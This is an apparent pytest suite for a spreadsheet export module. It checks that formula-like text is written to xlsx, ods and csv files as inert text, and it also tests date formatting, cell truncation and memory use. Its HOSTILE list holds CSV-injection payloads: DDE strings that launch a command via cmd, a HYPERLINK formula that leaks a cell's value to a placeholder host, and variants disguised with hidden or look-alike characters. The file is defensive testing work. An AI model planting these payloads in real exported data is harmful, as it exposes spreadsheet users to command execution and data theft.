"""Whatever is written into a spreadsheet is read back as it was, by a reader of somebody else's, and nothing is run."""

import csv
import re
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from python_calamine import CalamineWorkbook

from backend.core.spreadsheets import FORMATS, Sheet, file_kind, write
from backend.core.spreadsheets.cells import ENGLISH, MOST_LETTERS, plain

WORKBOOKS = ("xlsx", "ods")
# As OWASP's page on CSV injection and the reports it links to have them; the last ones hide what they begin with.
HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=DDE("cmd";"/C calc";"!A0")',
    '=1+1";=2+2',
    "＝1+1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u202e=1+1",
)


def written(tmp_path: Path, code: str, *sheets: Sheet) -> Path:
    path = tmp_path / f"list.{file_kind(code, sheets=len(sheets)).extension}"
    write(code, path, sheets)
    return path


def read(path: Path, sheet: int = 0) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(sheet).to_python()


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("code", WORKBOOKS)
def test_a_workbook_holds_what_looks_like_a_formula_as_text(tmp_path: Path, code: str, text: str) -> None:
    path = written(tmp_path, code, Sheet("List", ("Name", text), [(text, "next")]))
    kept = plain(text)
    assert read(path) == [["Name", kept], [kept, "next"]]
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}
    assert not any(re.search(r"<f[ >]|formula|hyperlink|xlink", one) for one in parts.values())


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_text_puts_a_quotation_mark_before_it(tmp_path: Path, text: str) -> None:
    heading, row = read_csv(written(tmp_path, "csv", Sheet("List", ("Name", text), [(text, "next")])))
    assert heading == ["Name", f"'{plain(text)}"]
    assert row == [f"'{plain(text)}", "next"]


@pytest.mark.parametrize("text", ["O’Brien-Ng", "a=b", "Zoë 🙂", "<b>&amp;</b>", "_x0041_", 'it\'s; "so", they said'])
@pytest.mark.parametrize("code", FORMATS)
def test_an_ordinary_word_is_left_as_it_is(tmp_path: Path, code: str, text: str) -> None:
    path = written(tmp_path, code, Sheet("List", ("Name",), [(text,)]))
    assert (read_csv(path) if code == "csv" else read(path))[1] == [text]


@pytest.mark.parametrize("code", FORMATS)
def test_letters_that_no_file_can_hold_are_left_out(tmp_path: Path, code: str) -> None:
    path = written(tmp_path, code, Sheet("List", ("Name",), [("a\x00b\x0bc\ud800d\ufffee\u2028f\r\ng",)]))
    assert (read_csv(path) if code == "csv" else read(path))[1] == ["ab cde f  g"]


def test_days_are_days_and_moments_are_as_clocks_in_england_show_them(tmp_path: Path) -> None:
    row = (date(2011, 6, 5), datetime(2026, 7, 1, 22, 30, tzinfo=UTC), 7, Decimal("2.5"), True, None, -3)
    sheet = Sheet("List", ("Born", "At", "Number", "Share", "Answer", "Nothing", "Less"), [row])
    for code in WORKBOOKS:
        found = read(written(tmp_path, code, sheet))[1]
        assert found == [date(2011, 6, 5), datetime(2026, 7, 1, 23, 30), 7, 2.5, "Yes", "", -3], code
    iso = read_csv(written(tmp_path, "csv", sheet))[1]
    assert iso == ["2011-06-05", "2026-07-01 23:30", "7", "2.5", "Yes", "", "-3"]
    english = Sheet("List", sheet.columns, [row], days=ENGLISH)
    assert read_csv(written(tmp_path, "csv", english))[1][:2] == ["05/06/2011", "01/07/2026 23:30"]


@pytest.mark.parametrize("code", WORKBOOKS)
def test_a_text_too_long_for_a_cell_is_cut_and_shows_it(tmp_path: Path, code: str) -> None:
    (cell,) = read(written(tmp_path, code, Sheet("List", ("Text",), [("x" * (MOST_LETTERS + 5),)])))[1]
    assert len(cell) == MOST_LETTERS
    assert cell.endswith("x…")


def test_several_sheets_are_one_workbook_or_files_in_one(tmp_path: Path) -> None:
    sheets = (
        Sheet("1 Contacts [all]", ("A",), [("one",)]),
        Sheet("2 Cases: open/closed, and a long title", ("B",), []),
    )
    names = ["1 Contacts  all", "2 Cases  open closed, and a lon"]
    for code in WORKBOOKS:
        path = written(tmp_path, code, *sheets)
        assert CalamineWorkbook.from_path(str(path)).sheet_names == names
        assert [read(path, 0), read(path, 1)] == [[["A"], ["one"]], [["B"]]]
    with zipfile.ZipFile(written(tmp_path, "csv", *sheets)) as archive:
        assert archive.namelist() == [f"{name}.csv" for name in names]
        assert archive.read(f"{names[0]}.csv").decode("utf-8-sig") == '"A"\r\n"one"\r\n'


def test_two_sheets_of_one_title_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="a title of its own"):
        written(tmp_path, "xlsx", Sheet("Cases", ("A",), []), Sheet("cases", ("A",), []))


def test_a_document_is_as_the_standard_asks(tmp_path: Path) -> None:
    path = written(tmp_path, "ods", Sheet("List", ("A",), [("one",)]))
    with zipfile.ZipFile(path) as archive:
        first = archive.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
        assert archive.read("mimetype").decode() == FORMATS["ods"].media_type
        ElementTree.fromstring(archive.read("content.xml"))
        ElementTree.fromstring(archive.read("META-INF/manifest.xml"))


@pytest.mark.parametrize("code", FORMATS)
def test_memory_does_not_grow_with_the_rows(tmp_path: Path, code: str) -> None:
    def rows(count: int) -> Iterator[tuple[str, int]]:
        return ((f"Row number {number} of many", number) for number in range(count))

    def most(count: int) -> int:
        tracemalloc.start()
        written(tmp_path, code, Sheet("List", ("Text", "Number"), rows(count)))
        _now, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return peak

    most(10)
    assert most(6_000) < most(300) * 2 + 100_000


def test_nothing_is_left_beside_the_file(tmp_path: Path) -> None:
    path = written(tmp_path, "xlsx", Sheet("List", ("A",), [("one",)]))
    assert list(tmp_path.iterdir()) == [path]
